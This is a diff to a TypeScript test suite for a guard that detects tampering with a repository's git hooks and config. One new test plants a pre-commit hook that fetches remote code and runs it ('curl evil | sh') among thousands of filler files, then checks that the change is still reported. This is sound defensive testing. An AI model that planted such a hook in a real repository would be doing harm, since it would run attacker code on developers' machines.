@@ -18,6 +18,7 @@ import {
   checkGitSetup,
   diffGitSetup,
   GIT_SETUP_FILE,
+  MAX_HOOK_FILES,
   recordGitSetup,
   type GitSetup,
 } from '../tasks/guards/git-setup-guard.ts';
@@ -42,10 +43,11 @@ test('diffGitSetup: hooks added, changed, removed; config keys changed, added, r
     },
   };
   assert.equal(diffGitSetup(before, after), [
-    'changed .git/hooks/hooks.d/one (the runner never runs hooks)',
+    // The hooks git runs first, then other files.
     'removed .git/hooks/post-checkout',
     'added .git/hooks/post-commit (the runner never runs hooks)',
     'changed .git/hooks/pre-push (the runner never runs hooks)',
+    'changed .git/hooks/hooks.d/one (the runner never runs hooks)',
     'changed the repository config: core.fsmonitor, remote.origin.url, user.name',
     'changed the repository config.worktree: core.hookspath',
     'changed the config of worktree 7-2-b, which git cannot read now',
@@ -121,7 +123,7 @@ test('recordGitSetup takes the baseline once: changes after it are diffed by key
   }
 });
 
-test('a named pipe planted as a hook is "added", found at once; a hook of 64 MiB is hashed in chunks', async () => {
+test('a named pipe planted as a hook is "added", found at once; a hook of 64 MiB is told apart without reading it', async () => {
   const repo = await makeRepo({ plan: 'milestone: {number: 7, title: "x"}\nwaves: []\n', items: [] });
   const common = path.join(repo.dir, '.git');
   const stateDir = path.join(common, 'work-milestone', 'milestone-7');
@@ -138,6 +140,33 @@ test('a named pipe planted as a hook is "added", found at once; a hook of 64 MiB
     assert.equal(await checkGitSetup(common, stateDir, Date.now()), [
       'changed .git/hooks/post-commit (the runner never runs hooks)',
     ]);
+  } finally {
+    repo.cleanup();
+  }
+});
+
+test('a hooks folder of thousands of files: the hooks git runs are still compared, the rest stops at a bound', async () => {
+  const repo = await makeRepo({ plan: 'milestone: {number: 7, title: "x"}\nwaves: []\n', items: [] });
+  const common = path.join(repo.dir, '.git');
+  const stateDir = path.join(common, 'work-milestone', 'milestone-7');
+  try {
+    writeFileSync(path.join(common, 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
+    await recordGitSetup(common, stateDir);
+    // Sorted before the hook: a walk that looked at names in order would never reach it.
+    mkdirSync(path.join(common, 'hooks', 'aaa'));
+    for (let i = 0; i < 1500; i++) writeFileSync(path.join(common, 'hooks', 'aaa', `f${i}`), '');
+    writeFileSync(path.join(common, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
+    const changes = await checkGitSetup(common, stateDir, Date.now());
+    assert.is(
+      changes[0],
+      'changed .git/hooks/pre-commit (the runner never runs hooks)',
+      'the hook git runs comes first',
+    );
+    assert.is(changes.length, 11, changes.join('\n'));
+    assert.match(changes[10] ?? '', /^and \d+ more changes under \.git\/hooks$/);
+    const baseline = JSON.parse(readFileSync(path.join(stateDir, GIT_SETUP_FILE), 'utf8')) as GitSetup;
+    assert.ok(Object.keys(baseline.hooks).length <= MAX_HOOK_FILES + 30, 'the baseline stays bounded');
+    assert.equal(await checkGitSetup(common, stateDir, Date.now()), [], 'nothing changed since: nothing reported');
   } finally {
     repo.cleanup();
   }
